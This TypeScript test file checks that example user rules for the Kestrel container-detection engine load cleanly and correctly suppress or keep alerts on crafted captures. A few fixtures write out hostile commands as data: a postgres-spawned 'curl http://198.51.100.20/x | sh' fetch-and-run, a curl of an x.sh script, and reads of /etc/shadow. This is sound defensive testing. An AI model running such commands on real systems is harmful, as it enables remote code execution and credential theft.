// The documented example user rules (rules/examples/user_rules.yaml) load after the defaults
// with no errors or warnings, and each of its list appends, macro replacement, condition
// override and exceptions takes effect on a crafted capture.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, test } from 'node:test';
import { buildPipeline } from '../../src/app/pipeline.js';
import { O, replayWithRules, type ContainerSpec, type Scenario } from './fixtures/scenario.js';
import { baseScenario, TTY, WEB } from './fixtures/scenarios.js';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const DEFAULTS = join(ROOT, 'rules/kestrel_rules.yaml');
const USER = join(ROOT, 'rules/examples/user_rules.yaml');
const TMP = mkdtempSync(join(tmpdir(), 'kestrel-user-rules-'));
after(() => rmSync(TMP, { recursive: true, force: true }));

const pod = (name: string, namespace: string, imageRepository: string): ContainerSpec => ({
  id: Buffer.from(name).toString('hex').padEnd(64, 'c').slice(0, 64),
  name,
  imageRepository,
  namespace,
  pod: `${name}-0`,
});

let n = 0;
/** Rules raised by the scenario with the defaults only, and with the defaults plus the example. */
async function rulesRaised(s: Scenario): Promise<{ defaults: string[]; withUser: string[] }> {
  const file = join(TMP, `user-${++n}.scap`);
  await s.write(file);
  const d = await replayWithRules(file, [DEFAULTS]);
  const u = await replayWithRules(file, [DEFAULTS, USER]);
  assert.deepEqual(u.log, [], 'warnings loading the user rules');
  return { defaults: d.alerts.map((a) => a.rule), withUser: u.alerts.map((a) => a.rule) };
}

describe('example user rules', () => {
  test('load after the defaults with no errors and no warnings', async () => {
    const log: string[] = [];
    const p = buildPipeline({ rulesFiles: [DEFAULTS, USER], log: (l) => log.push(l) });
    try {
      assert.deepEqual(log, []);
      assert.ok(p.rules.results.every((r) => r.successful));
      const names = p.rules.rules.map((r) => r.name);
      assert.ok(names.includes('ACME Any Shell in Payments'));
      assert.ok(names.includes('Kestrel Network Tool in Container'));
    } finally {
      await p.close();
    }
  });

  test('condition append: curl in a tooling namespace is no longer reported', async () => {
    const probe = pod('prober', 'monitoring', 'ghcr.io/acme/prober');
    const s = baseScenario('curl in the monitoring namespace')
      .proc({ pid: 5000, ppid: 900, comm: 'sh', exepath: '/bin/sh', container: probe })
      .spawn(5000, 5001, { exepath: '/usr/bin/curl', args: ['https://status.example.com/'] });
    assert.deepEqual(await rulesRaised(s), { defaults: ['Kestrel Network Tool in Container'], withUser: [] });
  });

  test('condition append keeps the rule for other namespaces', async () => {
    const s = baseScenario('curl in the shop namespace').spawn(1100, 1400, {
      exepath: '/usr/bin/curl',
      args: ['http://198.51.100.20/x.sh'],
    });
    const r = await rulesRaised(s);
    assert.deepEqual(r.withUser, ['Kestrel Network Tool in Container']);
  });

  test('list append: pip in the plugin host image is allowed', async () => {
    const host = pod('plugins', 'apps', 'ghcr.io/acme/plugin-host');
    const s = baseScenario('pip in the plugin host')
      .proc({ pid: 5000, ppid: 900, comm: 'sh', exepath: '/bin/sh', container: host })
      .spawn(5000, 5001, { exepath: '/usr/local/bin/pip', args: ['install', 'acme-plugin'] });
    assert.deepEqual(await rulesRaised(s), { defaults: ['Kestrel Package Manager in Container'], withUser: [] });
  });

  test('exceptions append: a terminal shell in a debug image is expected', async () => {
    const debug = pod('netshoot', 'default', 'docker.io/nicolaka/netshoot');
    const s = baseScenario('kubectl exec -it netshoot -- bash').spawn(900, 5001, {
      exepath: '/bin/bash',
      tty: TTY,
      container: debug,
    });
    assert.deepEqual(await rulesRaised(s), { defaults: ['Kestrel Terminal Shell in Container'], withUser: [] });
  });

  test('exceptions append keeps terminal shells in other images', async () => {
    const s = baseScenario('kubectl exec -it web -- bash').spawn(900, 5001, {
      exepath: '/bin/bash',
      tty: TTY,
      container: WEB,
    });
    assert.deepEqual((await rulesRaised(s)).withUser, ['Kestrel Terminal Shell in Container']);
  });

  test('a new exception: the backup agent may read SSH host keys', async () => {
    const s = baseScenario('restic backs up /etc/ssh')
      .spawn(2100, 2101, { exepath: '/usr/bin/restic', args: ['backup', '/etc'] })
      .open(2101, '/etc/ssh/ssh_host_ed25519_key', O.RDONLY)
      .open(2101, '/etc/shadow', O.RDONLY, 4);
    assert.deepEqual(await rulesRaised(s), {
      defaults: ['Kestrel Sensitive File Read', 'Kestrel Sensitive File Read'],
      withUser: ['Kestrel Sensitive File Read'],
    });
  });

  test('macro replaced: PostgreSQL archive_command shells are expected, others are not', async () => {
    const db = pod('db', 'data', 'docker.io/library/postgres');
    const s = baseScenario('postgres archive_command and COPY FROM PROGRAM')
      .proc({ pid: 5000, ppid: 900, comm: 'postgres', exepath: '/usr/lib/postgresql/16/bin/postgres', container: db })
      .spawn(5000, 5001, { exepath: '/bin/sh', args: ['-c', 'cp pg_wal/000000010000000000000001 /archive/'] })
      .spawn(5000, 5002, { exepath: '/bin/sh', args: ['-c', 'curl http://198.51.100.20/x | sh'] });
    assert.deepEqual(await rulesRaised(s), {
      defaults: ['Kestrel Shell Spawned by Service', 'Kestrel Shell Spawned by Service'],
      withUser: ['Kestrel Shell Spawned by Service'],
    });
  });

  test('a user rule built from Kestrel macros', async () => {
    const pay = pod('checkout', 'payments', 'ghcr.io/acme/checkout');
    const s = baseScenario('a shell in a payments pod')
      .proc({ pid: 5000, ppid: 900, comm: 'checkout', exepath: '/app/checkout', container: pay })
      .spawn(5000, 5001, { exepath: '/bin/sh', args: ['-c', 'env'] });
    assert.deepEqual(await rulesRaised(s), { defaults: [], withUser: ['ACME Any Shell in Payments'] });
  });
});
